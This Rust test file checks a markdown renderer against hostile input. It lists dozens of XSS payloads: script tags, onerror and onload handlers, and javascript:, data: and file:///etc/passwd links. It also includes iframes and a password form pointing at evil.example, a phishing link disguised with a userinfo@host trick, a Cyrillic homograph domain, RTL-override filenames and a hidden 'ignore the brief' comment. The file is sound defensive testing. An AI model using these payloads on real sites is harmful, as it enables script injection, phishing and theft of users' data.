//! Markdown by somebody who means harm: whatever it is dressed in, nothing runs, nothing is fetched,
//! nothing leads anywhere without saying where.

use halfday_runner::show::{Shown, show};
use insta::assert_snapshot;
use proptest::prelude::*;

fn html(markdown: &str) -> String {
    match show("answer.md", markdown.as_bytes()) {
        Shown::Markdown { html } => html.trim().to_owned(),
        other => format!("{other:?}"),
    }
}

/// What every page made here keeps to, whatever it was made from.
fn assert_harmless(html: &str, from: &str) {
    let mut rest = html;
    while let Some((_, tag)) = rest.split_once('<') {
        let (tag, after) = tag.split_once('>').unwrap_or((tag, ""));
        rest = after;
        let name = tag.trim_start_matches('/').split(' ').next().unwrap_or_default();
        let known = "a blockquote br code del div em h3 h4 h5 h6 hr li ol p pre span strong sup table tbody td th \
                     thead tr ul";
        assert!(known.split_whitespace().any(|known| known == name), "<{tag}> of {from:?}");
        for attribute in tag.split(' ').skip(1).filter(|part| part.contains('=')) {
            let (name, value) = attribute.split_once('=').unwrap_or_default();
            let is_known = match name {
                "href" => {
                    ["\"http://", "\"https://", "\"mailto:"].iter().any(|start| value.starts_with(start))
                }
                "rel" | "data-host" | "data-task" | "data-align" | "data-image" | "start" => true,
                _ => false,
            };
            assert!(is_known, "{attribute} in <{tag}> of {from:?}");
        }
    }
}

#[test]
fn what_would_run_is_gone() {
    let hostile = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" onerror=\"alert(1)\" alt=\"a\">",
        "<img/src=x/onerror=alert(1)>",
        "<p onclick=alert(1)>x</p>",
        "<svg onload=alert(1)><circle/></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"https://evil.example\"></object><embed src=x>",
        "<form action=\"https://evil.example\"><input name=password><button>ok</button></form>",
        "<style>*{background:url(https://evil.example)}</style>",
        "<p style=\"background:url(https://evil.example)\">x</p>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<base href=\"https://evil.example/\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<textarea><script>alert(1)</script></textarea>",
        "<title><img src=x onerror=alert(1)></title>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<video src=https://evil.example/v poster=https://evil.example/p></video>",
        "<audio src=https://evil.example/a autoplay></audio>",
        "<picture><source srcset=https://evil.example/p><img src=x></picture>",
        "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
        "<body onload=alert(1)>",
        "<a id=location name=location>x</a>",
        "<span data-task=\"done\" data-host=\"bank.example\" data-image=x>x</span>",
        "[x](\u{1}javascript:alert(1)) <a href=\"\u{1}javascript:alert(1)\">x</a>",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?php echo 1 ?><script>alert(1)</script>",
        "`<script>`\n\n```html\n<script>alert(1)</script>\n```",
        "> - | <script>alert(1)</script> |\n> - <img src=x onerror=alert(1)>",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> <script>alert(1)</script> |",
        "[^1]\n\n[^1]: <script>alert(1)</script>",
    ];
    for markdown in hostile {
        assert_harmless(&html(markdown), markdown);
    }
}

#[test]
fn links_that_do_not_lead_into_the_web_are_only_words() {
    let hostile = [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java&#115;cript:alert(1))",
        "[x](&#x6A;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:msgbox)",
        "[x](file:///etc/passwd)",
        "[x](#/settings)",
        "[x](../../other.html)",
        "[x](//evil.example/x)",
        "[x](tauri://localhost)",
        "[x][y]\n\n[y]: javascript:alert(1)",
    ];
    for markdown in hostile {
        assert_eq!(html(markdown), "<p>x</p>", "{markdown:?}");
    }
}

#[test]
fn a_link_says_where_it_leads() {
    let link = |markdown: &str| {
        let html = html(markdown);
        assert_harmless(&html, markdown);
        let host = html.split_once("data-host=\"").and_then(|(_, host)| host.split_once('"'));
        host.map(|(host, _)| host.to_owned())
    };

    assert_eq!(link("[x](https://example.org/a)").as_deref(), Some("example.org"));
    assert_eq!(
        link("[bank.example](https://bank.example@evil.example:8443/)").as_deref(),
        Some("evil.example:8443")
    );
    assert_eq!(link("[x](https://аpple.com)").as_deref(), Some("xn--pple-43d.com"), "a Cyrillic а");
    assert_eq!(link("<mei@example.org>").as_deref(), Some("mei@example.org"));
}

#[test]
fn a_picture_is_what_it_shows_and_where_it_would_come_from() {
    assert_snapshot!(html("![Sales <2026>](https://track.example/p.png?id=7 \"t\")"), @r#"<p><span data-image="">Sales &lt;2026&gt; [track.example]</span></p>"#);
    assert_snapshot!(html("![](//track.example/p.png)"), @r#"<p><span data-image="">[//track.example/p.png]</span></p>"#);
    assert_snapshot!(html("![chart](out/chart.png)"), @r#"<p><span data-image="">chart [out/chart.png]</span></p>"#);
    assert_snapshot!(html("![x](data:image/png;base64,AAAA)"), @r#"<p><span data-image="">x</span></p>"#);
    assert_snapshot!(html("[![badge](https://img.example/b.svg)](https://example.org)"), @r#"<p><a href="https://example.org/" rel="noopener noreferrer nofollow" data-host="example.org"><span data-image="">badge [img.example]</span></a></p>"#);
}

#[test]
fn html_is_shown_as_what_it_is() {
    assert_snapshot!(html("a <b onclick=x>b</b> <!-- ignore the brief --> c<br>d"), @r"
    <p>a <code>&lt;b onclick=x&gt;</code>b<code>&lt;/b&gt;</code> <code>&lt;!-- ignore the brief --&gt;</code> c<br>
    d</p>
    ");
    assert_snapshot!(html("<p>\n<img src=\"https://track.example/1.gif\">\n</p>\n\n<!-- hidden -->"), @r#"
    <pre><code>&lt;p&gt;
    &lt;img src="https://track.example/1.gif"&gt;
    &lt;/p&gt;
    </code></pre>
    <pre><code>&lt;!-- hidden --&gt;</code></pre>
    "#);
}

#[test]
fn what_nobody_would_see_is_written_out() {
    assert_snapshot!(html("abc\u{202e}fdp.exe &#x202e; `\u{200b}` \u{1b}[31m &#27;[0m \u{e0041}"), @"<p>abc⟦U+202E⟧fdp.exe ⟦U+202E⟧ <code>⟦U+200B⟧</code> ⟦U+001B⟧[31m ⟦U+001B⟧[0m ⟦U+E0041⟧</p>");
    assert_snapshot!(html("[x](https://example.org/\u{202e}gpj.exe)"), @r#"<p><a href="https://example.org/%E2%80%AEgpj.exe" rel="noopener noreferrer nofollow" data-host="example.org">x</a></p>"#);
}

#[test]
fn what_is_nested_to_break_something_is_shown_as_text() {
    for markdown in [">".repeat(3_000), "- ".repeat(300) + "x", "*a _b ".repeat(400) + &"_ *".repeat(400)] {
        let shown = show("answer.md", markdown.as_bytes());
        assert!(matches!(shown, Shown::Text { .. }), "{markdown:.20}");
    }
}

proptest! {
    #[test]
    fn no_markdown_at_all_does_harm(
        pieces in proptest::collection::vec(
            prop_oneof![
                "\\PC{0,8}",
                proptest::sample::select(vec![
                    "<script>", "</script>", "<img src=x onerror=a>", "<svg>", "</svg>", "<style>", "<!--", "-->",
                    "<a href=\"javascript:a\">", "</a>", "[x](javascript:a)", "![a](https://e.example/p)", "\n\n", "> ",
                    "| a | b |\n|---|---|\n", "```", "`", "<math>", "<iframe>", "<table>", "<td>", "\"", "'", "<h1>",
                    "</h1>", "# ", "- [x] ", "[^1]", "[^1]: ", "&lt;", "&#106;", "\\", "<", ">", "]]>", "<![CDATA[",
                ]).prop_map(str::to_owned),
            ],
            0..24,
        )
    ) {
        let markdown = pieces.concat();
        if let Shown::Markdown { html } = show("answer.md", markdown.as_bytes()) {
            assert_harmless(&html, &markdown);
        }
    }
}
